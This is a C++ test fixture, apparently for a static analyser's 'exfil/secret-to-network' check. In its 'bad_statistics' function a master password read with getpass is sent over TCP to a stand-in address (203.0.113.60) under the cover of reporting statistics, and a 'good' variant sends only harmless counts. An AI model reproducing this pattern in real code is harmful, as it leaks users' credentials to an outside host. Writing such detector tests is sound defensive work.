/* C++: a keyring object keeps the secret in a member; another method reports "statistics". */
#include <arpa/inet.h>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

class Keyring {
  public:
    explicit Keyring(const char *owner) {
        std::strncpy(owner_, owner, sizeof owner_ - 1);
    }
    void ask() {
        std::strncpy(secret_, getpass("Master password: "), sizeof secret_ - 1);
        opened_++;
    }
    const char *secret() const {
        return secret_;
    }
    const char *owner() const {
        return owner_;
    }
    int opened() const {
        return opened_;
    }

  private:
    char owner_[32] = {};
    char secret_[64] = {};
    int opened_ = 0;
};

int dial() {
    sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(4460);
    peer.sin_addr.s_addr = inet_addr("203.0.113.60");
    int out = socket(AF_INET, SOCK_STREAM, 0);
    return connect(out, reinterpret_cast<sockaddr *>(&peer), sizeof peer) == 0 ? out : -1;
}

} // namespace

int bad_statistics(const char *owner) {
    Keyring ring(owner);
    ring.ask();
    int out = dial();
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(out, ring.secret(), std::strlen(ring.secret()), 0);
    return close(out);
}

int good_statistics(const char *owner) {
    Keyring ring(owner);
    ring.ask();
    int out = dial(), opened = ring.opened();
    send(out, ring.owner(), std::strlen(ring.owner()), 0);
    send(out, &opened, sizeof opened, 0);
    return close(out);
}
